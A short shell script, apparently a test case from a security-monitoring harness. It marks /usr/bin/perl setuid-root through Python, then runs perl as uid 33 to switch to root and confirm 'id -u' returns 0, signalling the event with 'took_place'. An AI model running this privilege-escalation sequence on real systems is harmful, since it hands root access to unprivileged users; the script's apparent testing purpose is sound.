#!/bin/sh
. /opt/case/case.sh

python3 -c 'import os, stat; d = os.open("/usr/bin", os.O_RDONLY); os.chmod("perl", 0o4755, dir_fd=d)'
setpriv --reuid 33 --regid 33 --clear-groups perl -e '$ENV{PATH} = "/usr/bin"; $< = 0; exec "/usr/bin/id", "-u"' | grep -qx 0
took_place
